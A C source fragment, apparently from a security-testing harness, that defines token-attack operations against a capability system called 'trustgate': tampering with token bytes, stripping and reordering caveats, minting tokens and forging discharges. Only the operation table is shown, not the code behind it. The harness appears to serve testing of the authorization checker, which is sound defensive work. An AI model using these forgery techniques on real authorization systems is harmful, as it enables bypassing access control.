	{ .name = "tok.tamper", .nargs = 3, .produces = RES_TOKEN, .run = op_tok_tamper,
	  .args = { HANDLE_ARG("token", RES_TOKEN), INT_ARG("at", 0, 4095, 0),
		    INT_ARG("xor", 1, 255, 0) } },
	{ .name = "tok.strip", .nargs = 2, .produces = RES_TOKEN, .run = op_strip,
	  .args = { HANDLE_ARG("token", RES_TOKEN), INT_ARG("caveat", 0, 15, 1) } },
	{ .name = "tok.reorder", .nargs = 2, .produces = RES_TOKEN, .run = op_reorder,
	  .args = { HANDLE_ARG("token", RES_TOKEN), INT_ARG("caveat", 0, 15, 1) } },
	{ .name = "tok.mint", .nargs = 4, .produces = RES_TOKEN, .run = op_mint,
	  .args = { STR_ARG("resource"), ENUM_ARG("as", agent_names, 0),
		    ENUM_ARG("key", key_names, 0), ENUM_ARG("action", action_names, 0) } },
	{ .name = "dis.forge", .nargs = 2, .produces = RES_DISCHARGE, .run = op_dis_forge,
	  .args = { HANDLE_ARG("code", RES_CODE), ENUM_ARG("key", key_names, 0) } },
};

const esc_target trustgate_target = {
	.name = "trustgate",
	.res_kinds = res_kinds,
	.nres = sizeof(res_kinds) / sizeof(res_kinds[0]),
	.ops = ops,
	.nops = sizeof(ops) / sizeof(ops[0]),
	.profiles = profile_names,
	.nprofiles = TG_NPROFILES,
	.dict = dict,
	.ndict = sizeof(dict) / sizeof(dict[0]),
	.state_size = sizeof(tg_state),
	.reset = tg_reset,
	.check = tg_check,
	.describe = tg_describe,
	.release = tg_release,
};
